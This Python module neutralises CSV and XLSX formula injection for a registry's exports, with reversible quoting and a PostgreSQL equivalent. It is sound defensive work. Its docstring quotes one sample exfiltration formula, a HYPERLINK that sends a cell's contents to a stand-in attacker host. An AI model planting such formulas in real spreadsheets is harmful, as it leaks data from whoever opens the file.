"""Safe tables: the one rule for text cells in every CSV and XLSX file the registry writes.

A spreadsheet program takes a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or a carriage return before one of them) for a formula: a title such as
``=HYPERLINK("http://evil.example/?"&A1, "click")`` would run when an auditor or a journalist
opens the file. The OWASP rule for CSV injection is to put a single quote ``'`` before such a
cell, which spreadsheet programs read as "this is text".

The rule here is that one, made reversible so that a reader (and the evidence bundle's
verifier, which recomputes hashes over the original text) gets back exactly what was stored:

- a text cell that starts with one of ``= + - @``, a tab or a carriage return, or with one or
  more single quotes followed by one of those, is written with one more ``'`` in front;
- any other cell is written as it is.

Reading back (:func:`restore`) removes the first ``'`` of a cell that starts with one or more
single quotes followed by one of those characters, and leaves every other cell alone. So
``=1+1`` is written ``'=1+1``, and a text that really starts with ``'=`` is written ``''=``:
each reads back as typed.

Only text is neutralised: a number such as -3 or a date is written by its own rule and is not
text (callers pass only ``str`` values of text columns to :func:`neutralise`).

No imports from the application: ``commons/audit/bundle.py`` loads this file by its path when
it runs on its own, without the registry installed.
"""

from __future__ import annotations

import re

# What a spreadsheet may take for the start of a formula (OWASP "CSV Injection").
TRIGGERS = "=+-@\t\r"

_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")


def needs_quote(text: str) -> bool:
    """Whether ``text`` is written with a ``'`` in front."""
    if not text:
        return False
    return text[0] in TRIGGERS or (text[0] == "'" and _NEEDS_QUOTE.match(text) is not None)


def neutralise(text: str) -> str:
    """The text of a cell as the registry writes it (see the module's docstring)."""
    return "'" + text if needs_quote(text) else text


def restore(cell: str) -> str:
    """The inverse of :func:`neutralise`: the text as it was stored."""
    if cell[:1] == "'" and _QUOTED.match(cell):
        return cell[1:]
    return cell


def sql_neutralise(column: str) -> str:
    """PostgreSQL twin of :func:`neutralise` for a text expression (NULL stays NULL).

    The first character is compared first, so the regular expression only runs on the rare
    cells that start with a quote or one of the characters; ``chr(9)`` and ``chr(13)`` are tab
    and carriage return. The pattern is written with the characters themselves (no escapes),
    so it means the same whatever ``standard_conforming_strings`` is set to.
    """
    triggers = "'=', '+', '-', '@', chr(9), chr(13)"
    return (
        f"CASE WHEN left({column}, 1) IN ({triggers}) THEN '''' || {column} "
        f"WHEN left({column}, 1) = '''' AND {column} ~ ('^''*[-=+@' || chr(9) || chr(13) || ']') "
        f"THEN '''' || {column} ELSE {column} END"
    )
